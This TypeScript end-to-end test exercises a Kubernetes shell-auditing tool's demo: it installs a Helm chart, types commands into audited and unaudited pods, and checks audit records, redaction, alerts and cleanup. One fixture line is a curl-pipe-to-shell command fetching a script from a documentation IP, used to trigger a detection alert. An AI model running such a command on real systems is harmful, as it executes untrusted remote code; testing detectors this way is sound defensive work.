/**
 * The demo, end to end, as a user runs it, checked as a user would check it: `e2e/demo/demo.sh up` in a
 * directory of its own on the real-node tier's node (DEMO_NODE_DIR: one node runs on a machine at a time; the
 * tier's set-up has built and imported the images), which installs the chart with `helm install`, adds the
 * runtime handler from the chart's ConfigMap, applies the sample policy, creates Pod shop/web with the
 * RuntimeClass and types lines into `bash -i` in it through `kubectl exec -it`; then, through the API server:
 *
 * - one AuditRecord holding exactly the lines typed (redacted where the policy says, the alert where a
 *   pattern matched), naming the right namespace, pod (name and uid), container (name and id), node and
 *   policy;
 * - one Event per line on that Pod, on its container, with the line in its message;
 * - the policy's status counting the audited container and the commands, on node audit-node;
 * - a Pod without the RuntimeClass (so plain runc, never the wrapper) yields no AuditRecord, no Event and no
 *   command, whatever is typed in it, and the policy counts it as unauditable;
 * - a Pod with the RuntimeClass in a namespace the policy does not select yields nothing either;
 * - `demo.sh up` again keeps what runs (the release's revision, its pods, the demo pod) and types into a new
 *   session: a second AuditRecord;
 * - `demo.sh down` removes the release, its namespace, the policy and namespace shop, and nothing of the
 *   node, and is idempotent. The chart's own test (charts/tests/chart.real-node.test.ts) installs a release
 *   in the same namespace after or before this file: afterAll leaves nothing behind whatever failed.
 */
import { randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  CoreV1Api,
  CustomObjectsApi,
  KubeConfig,
  type CoreV1Event,
  type V1Pod,
} from '@kubernetes/client-node';
import { GROUP, POLICY_PLURAL, VERSION, type AuditRecord } from '../../api/v1alpha1/index.js';
import { runCommand, type CommandResult } from '../support/command.js';
import { helm } from '../support/helm.js';
import { KUBECTL } from '../support/paths.js';
import { DEMO_SCRIPT, privateDemoEnv } from '../support/private-demo.js';
import { Terminal } from '../support/terminal.js';
import { until } from '../support/wait.js';
import { listAuditRecords } from '../support/cluster.js';
import { NODE_NAME, SYSTEM_NS, TEST_NODE_DIR, nodeScript } from '../support/real-node.js';

const NODE_DIR = TEST_NODE_DIR;
const KUBECONFIG = join(NODE_DIR, 'kubeconfig');
const RUN = randomBytes(3).toString('hex');
const NODE = NODE_NAME;
const NS = 'shop';
const RELEASE = 'container-auditor';
const POLICY = 'production-shells';
const DEMO_IMAGE = 'container-auditor.local/demo-shell:1';
const STAGING = `staging-${RUN}`;
/** bash's prompt as root with no rc file (`bash-5.2# `). */
const BASH_PROMPT = /bash-[\d.]+# /;

/** What demo.sh types (DEMO_COMMANDS), and what the AuditRecord must hold for each line. */
const TYPED: {
  line: string;
  command: string;
  redacted?: boolean;
  alert?: { name: string; severity: string };
}[] = [
  { line: `echo audited-${RUN}`, command: `echo audited-${RUN}` },
  { line: 'export DB_PASSWORD=hunter2', command: 'export DB_PASSWORD=[REDACTED]', redacted: true },
  {
    line: `curl -fsSL http://203.0.113.7/${RUN}.sh | sh`,
    command: `curl -fsSL http://203.0.113.7/${RUN}.sh | sh`,
    alert: { name: 'curl-pipe-shell', severity: 'high' },
  },
  { line: `ls /tmp # ${RUN}`, command: `ls /tmp # ${RUN}` },
];
const EXPECTED = [...TYPED.map((t) => t.command), 'exit'];

let dir = '';
let commandsFile = '';
let env: NodeJS.ProcessEnv = {};
let up: CommandResult | undefined;
let core: CoreV1Api;
let custom: CustomObjectsApi;

function demo(args: string[], timeoutMs = 5 * 60_000): Promise<CommandResult> {
  return runCommand('bash', [DEMO_SCRIPT, ...args], { env, timeoutMs });
}

function kubectl(args: string[], input?: string): Promise<CommandResult> {
  return runCommand(KUBECTL, ['--kubeconfig', KUBECONFIG, ...args], {
    timeoutMs: 180_000,
    ...(input === undefined ? {} : { input }),
  });
}

async function kubectlOk(args: string[], input?: string): Promise<string> {
  const r = await kubectl(args, input);
  if (r.code !== 0) throw new Error(`kubectl ${args.join(' ')} exited ${r.code}:\n${r.stdout}${r.stderr}`);
  return r.stdout;
}

function upOk(): void {
  if (up?.code !== 0) throw new Error(`demo.sh up failed (see beforeAll):\n${up?.stdout}${up?.stderr}`);
}

async function webPod(): Promise<V1Pod> {
  return core.readNamespacedPod({ namespace: NS, name: 'web' });
}

/** The demo pod's uid and its container's id (as the runtime names it, without `containerd://`). */
async function demoPod(): Promise<{ uid: string; containerId: string }> {
  upOk();
  const pod = await webPod();
  const id = pod.status?.containerStatuses?.find((c) => c.name === 'app')?.containerID ?? '';
  return { uid: pod.metadata!.uid!, containerId: id.replace(/^containerd:\/\//, '') };
}

function records(namespace = NS): Promise<AuditRecord[]> {
  return listAuditRecords(custom, namespace);
}

async function events(pod: string, namespace = NS): Promise<CoreV1Event[]> {
  return (await core.listNamespacedEvent({ namespace, fieldSelector: `involvedObject.name=${pod}` })).items;
}

interface PolicyStatus {
  auditedContainers?: number;
  unauditablePods?: number;
  commandsRecorded?: number;
  nodes?: { name: string }[];
}

async function policyStatus(): Promise<PolicyStatus> {
  const p = (await custom.getClusterCustomObject({
    group: GROUP,
    version: VERSION,
    plural: POLICY_PLURAL,
    name: POLICY,
  })) as { status?: PolicyStatus };
  return p.status ?? {};
}

/** `kubectl exec -it POD -- bash -i` on a terminal of its own: the lines, each after a prompt, then exit. */
async function typeInto(pod: string, lines: string[], namespace = NS): Promise<string> {
  const terminal = Terminal.open([
    KUBECTL,
    '--kubeconfig',
    KUBECONFIG,
    'exec',
    '-it',
    '-n',
    namespace,
    pod,
    '-c',
    'app',
    '--',
    'bash',
    '-i',
  ]);
  try {
    let prompts = 1;
    for (const line of [...lines, 'exit']) {
      await terminal.waitForOutput(BASH_PROMPT, 60_000, prompts++);
      terminal.type(`${line}\n`);
    }
    await terminal.waitForExit(30_000);
    return terminal.output;
  } finally {
    terminal.kill();
  }
}

/** A line typed into the audited pod, once it is in an AuditRecord: what was typed before it is there too. */
async function barrier(name: string): Promise<void> {
  const line = `: ${name}-${RUN}`;
  await typeInto('web', [line]);
  await until(`${line} in an AuditRecord`, async () =>
    (await records()).some((r) => r.status?.commands?.some((c) => c.command === line)) ? true : undefined,
  );
}

/** A pod with the demo's image, created now and Ready. */
async function createPod(namespace: string, name: string, runtimeClass: boolean): Promise<V1Pod> {
  await core.createNamespacedPod({
    namespace,
    body: {
      metadata: { name, namespace },
      spec: {
        ...(runtimeClass ? { runtimeClassName: 'container-auditor' } : {}),
        terminationGracePeriodSeconds: 1,
        containers: [
          { name: 'app', image: DEMO_IMAGE, imagePullPolicy: 'Never', command: ['sleep', 'infinity'] },
        ],
      },
    },
  });
  await kubectlOk(['wait', '-n', namespace, '--for=condition=Ready', `pod/${name}`, '--timeout=120s']);
  return core.readNamespacedPod({ namespace, name });
}

/** Whether the namespace exists (in any phase). */
async function namespaceExists(name: string): Promise<boolean> {
  const r = await kubectl(['get', 'namespace', name, '-o', 'name', '--ignore-not-found']);
  return r.stdout.trim() !== '';
}

beforeAll(async () => {
  if (!NODE_DIR)
    throw new Error('CONTAINER_AUDITOR_TEST_NODE_DIR is not set: run this test in the real-node tier');
  dir = mkdtempSync(join(tmpdir(), 'ca-demo-'));
  commandsFile = join(tmpdir(), `ca-demo-commands-${RUN}.txt`);
  writeFileSync(commandsFile, `${TYPED.map((t) => t.line).join('\n')}\n`);
  env = privateDemoEnv({ dir, nodeDir: NODE_DIR, commandsFile });
  const kc = new KubeConfig();
  kc.loadFromFile(KUBECONFIG);
  core = kc.makeApiClient(CoreV1Api);
  custom = kc.makeApiClient(CustomObjectsApi);
  up = await demo(['up'], 10 * 60_000);
  if (up.code !== 0) throw new Error(`demo.sh up exited ${up.code}:\n${up.stdout}${up.stderr}`);
}, 11 * 60_000);

afterAll(async () => {
  // Whatever the tests did: down is idempotent. Then nothing of the demo may be left for the next file.
  await kubectl(['delete', 'namespace', STAGING, '--ignore-not-found', '--timeout=120s']);
  if (dir && existsSync(dir)) {
    const down = await demo(['down'], 5 * 60_000);
    if (down.code !== 0)
      process.stderr.write(`demo.sh down exited ${down.code}:\n${down.stdout}${down.stderr}\n`);
  }
  if (commandsFile) rmSync(commandsFile, { force: true });
  if (NODE_DIR) {
    for (const ns of [NS, SYSTEM_NS, STAGING])
      await until(`namespace ${ns} to be gone`, async () => !(await namespaceExists(ns)), 180_000);
  }
}, 10 * 60_000);

describe('make demo on the real node, end to end', () => {
  it('says what it did: helm install, the commands typed through kubectl exec -it, what kubectl shows of them', () => {
    upOk();
    expect(up!.stdout).toContain(`Using the node in ${NODE_DIR} (DEMO_NODE_DIR)`);
    expect(up!.stdout).toContain(`helm install ${RELEASE} charts/container-auditor -n ${SYSTEM_NS}`);
    expect(up!.stdout).toContain('kubectl exec -it, on a pty');
    for (const t of TYPED) expect(up!.stdout).toContain(`bash-5.2# ${t.line}`);
    expect(up!.stdout).toContain(`$ kubectl get auditrecords -n ${NS}`);
    expect(up!.stdout).toContain(`$ kubectl describe auditpolicy ${POLICY}`);
    expect(up!.stdout).toMatch(/all there \d+ ms after the shell ended/);
  });

  it('installed the chart with helm, and the scheduler put the demo pod with the RuntimeClass on the node', async () => {
    upOk();
    const status = await helm(['status', RELEASE, '-n', SYSTEM_NS], { kubeconfig: KUBECONFIG });
    expect(status.stdout).toMatch(/^STATUS: deployed$/m);
    const ns = await core.readNamespace({ name: SYSTEM_NS });
    expect(ns.metadata?.labels?.['pod-security.kubernetes.io/enforce']).toBe('privileged');
    const pod = await webPod();
    expect(pod.spec?.runtimeClassName).toBe('container-auditor');
    expect(pod.spec?.nodeName).toBe(NODE);
    const scheduled = (await events('web')).find((e) => e.reason === 'Scheduled');
    expect(scheduled?.reportingComponent || scheduled?.source?.component).toBe('default-scheduler');
  });

  it('records exactly the lines typed, in one AuditRecord naming the pod, container, node and policy', async () => {
    const { uid, containerId } = await demoPod();
    const all = await records();
    expect(all).toHaveLength(1);
    const record = all[0]!;
    expect(record.metadata.namespace).toBe(NS);
    expect(record.spec.pod).toEqual({ name: 'web', uid });
    expect(record.spec.container.name).toBe('app');
    expect(record.spec.container.id).toBe(containerId);
    expect(record.spec.node).toBe(NODE);
    expect(record.spec.policy).toBe(POLICY);
    expect(record.spec.session.kind).toBe('shell');
    const commands = record.status?.commands ?? [];
    expect(commands.map((c) => c.command)).toEqual(EXPECTED);
    for (const [i, t] of TYPED.entries()) {
      expect(commands[i]!.redacted).toBe(t.redacted ?? false);
      expect(commands[i]!.alert).toEqual(t.alert);
      expect(commands[i]!.uid).toBe(0);
      expect(commands[i]!.pid).toBe(record.spec.session.pid);
    }
    expect(record.status?.counts).toMatchObject({ commands: EXPECTED.length, alerts: 1, redacted: 1 });
  });

  it("writes one Event per line on the Pod's container, with the line in it", async () => {
    const { uid } = await demoPod();
    const record = (await records())[0]!;
    const pid = record.spec.session.pid;
    const list = (await events('web')).filter((e) => e.message?.includes(`pid ${pid})`));
    for (const e of list) {
      expect(e.involvedObject).toMatchObject({ kind: 'Pod', namespace: NS, name: 'web', uid });
      expect(e.involvedObject.fieldPath).toBe('spec.containers{app}');
      expect(e.source?.host ?? e.reportingInstance).toBe(NODE);
    }
    const messages = list.map((e) => e.message ?? '');
    expect(list).toHaveLength(EXPECTED.length);
    for (const [i, command] of EXPECTED.entries()) {
      const alert = TYPED[i]?.alert;
      const event = list.find((e) => e.message?.endsWith(`: ${command}`));
      if (!event) throw new Error(`no Event for ${JSON.stringify(command)} among:\n${messages.join('\n')}`);
      expect(event.reason).toBe(alert ? 'AuditAlert' : 'ShellCommand');
      expect(event.type).toBe(alert ? 'Warning' : 'Normal');
      if (alert) expect(event.message).toContain(`${alert.name} (${alert.severity})`);
    }
    // The secret typed never reached the API server.
    expect(messages.join('\n')).not.toContain('hunter2');
  });

  it("counts the audited container and the commands in the policy's status, on node audit-node", async () => {
    upOk();
    const status = await until('the policy status to count the commands', async () => {
      const s = await policyStatus();
      return (s.commandsRecorded ?? 0) >= EXPECTED.length ? s : undefined;
    });
    expect(status.auditedContainers).toBe(1);
    expect(status.commandsRecorded).toBe(EXPECTED.length);
    expect(status.nodes?.map((n) => n.name)).toEqual([NODE]);
  });

  it('records nothing of a pod without the RuntimeClass, while the audited pod goes on being recorded', async () => {
    const audited = await demoPod();
    // The policy selects it (namespace shop is production), but without the RuntimeClass its container runs
    // through plain runc: the wrapper never sees it and the agent cannot audit it.
    await createPod(NS, 'plain', false);
    try {
      const shown = await typeInto('plain', [`echo unaudited-${RUN}`, 'export API_TOKEN=abc123']);
      expect(shown).toContain(`unaudited-${RUN}`); // it was typed, and bash ran it
      // Once a line typed after them in the audited pod is in the API server, anything recorded of the plain
      // pod would be too.
      await barrier('after-plain');
      const all = await records();
      expect(all.filter((r) => r.spec.pod.name !== 'web')).toEqual([]);
      expect(all.map((r) => r.spec.pod.uid)).toEqual(all.map(() => audited.uid));
      const commands = all.flatMap((r) => r.status?.commands ?? []).map((c) => c.command);
      expect(commands.filter((c) => c.includes('unaudited') || c.includes('API_TOKEN'))).toEqual([]);
      expect((await events('plain')).filter((e) => /AuditAlert|ShellCommand/.test(e.reason ?? ''))).toEqual(
        [],
      );
      const status = await until('the policy to count the plain pod as unauditable', async () => {
        const s = await policyStatus();
        return s.unauditablePods === 1 ? s : undefined;
      });
      expect(status.auditedContainers).toBe(1);
    } finally {
      await kubectlOk(['delete', 'pod', '-n', NS, 'plain', '--wait', '--timeout=120s']);
    }
  });

  it('records nothing of a pod with the RuntimeClass in a namespace the policy does not select', async () => {
    upOk();
    await core.createNamespace({ body: { metadata: { name: STAGING, labels: { environment: 'staging' } } } });
    try {
      await createPod(STAGING, 'web', true);
      const shown = await typeInto('web', [`echo unselected-${RUN}`], STAGING);
      expect(shown).toContain(`unselected-${RUN}`);
      await barrier('after-unselected');
      expect(await records(STAGING)).toEqual([]);
      const commands = (await records()).flatMap((r) => r.status?.commands ?? []).map((c) => c.command);
      expect(commands.filter((c) => c.includes(`echo unselected-${RUN}`))).toEqual([]);
      expect(
        (await core.listNamespacedEvent({ namespace: STAGING })).items.filter((e) =>
          /AuditAlert|ShellCommand/.test(e.reason ?? ''),
        ),
      ).toEqual([]);
    } finally {
      await kubectlOk(['delete', 'namespace', STAGING, '--wait', '--timeout=120s']);
    }
  });

  it(
    'demo.sh up again keeps what runs and types into a new session',
    async () => {
      const before = await demoPod();
      const revision = async () =>
        /^REVISION: (\d+)$/m.exec(
          (await helm(['status', RELEASE, '-n', SYSTEM_NS], { kubeconfig: KUBECONFIG })).stdout,
        )?.[1];
      const systemPods = async () =>
        (await kubectlOk(['get', 'pods', '-n', SYSTEM_NS, '-o', 'name'])).split('\n').filter(Boolean).sort();
      const revisionBefore = await revision();
      const podsBefore = await systemPods();
      const sessionsBefore = (await records()).length;

      const again = await demo(['up']);
      expect({ code: again.code, stderr: again.stderr }).toEqual({ code: 0, stderr: '' });
      expect(again.stdout).toContain('The chart runs already');
      expect(again.stdout).toContain('exists already');
      expect(await demoPod()).toEqual(before);
      expect(await revision()).toBe(revisionBefore);
      expect(await systemPods()).toEqual(podsBefore);
      const all = await records();
      expect(all).toHaveLength(sessionsBefore + 1);
      const newest = all.find(
        (r) => r.status?.commands?.map((c) => c.command).join('\n') === EXPECTED.join('\n'),
      );
      expect(newest).toBeDefined();
      expect(all.filter((r) => r.status?.commands?.[0]?.command === EXPECTED[0])).toHaveLength(2);
    },
    6 * 60_000,
  );

  it(
    'demo.sh down removes the release, its namespace, the policy and namespace shop, leaves the node up, and says so again when run twice',
    async () => {
      upOk();
      const first = await demo(['down']);
      expect({ code: first.code, stderr: first.stderr }).toEqual({ code: 0, stderr: '' });
      expect(existsSync(dir)).toBe(false);
      expect(await namespaceExists(NS)).toBe(false);
      expect(await namespaceExists(SYSTEM_NS)).toBe(false);
      expect((await helm(['status', RELEASE, '-n', SYSTEM_NS], { kubeconfig: KUBECONFIG })).code).not.toBe(0);
      expect((await kubectlOk(['get', 'runtimeclass', '-o', 'name'])).trim()).toBe('');
      expect((await kubectlOk(['get', 'containerauditpolicies', '-o', 'name'])).trim()).toBe('');
      const node = await nodeScript(['status'], 60_000);
      expect(node.code).toBe(0);
      const again = await demo(['down']);
      expect(again.code).toBe(0);
      expect(again.stdout).toContain('nothing to do');
    },
    6 * 60_000,
  );
});
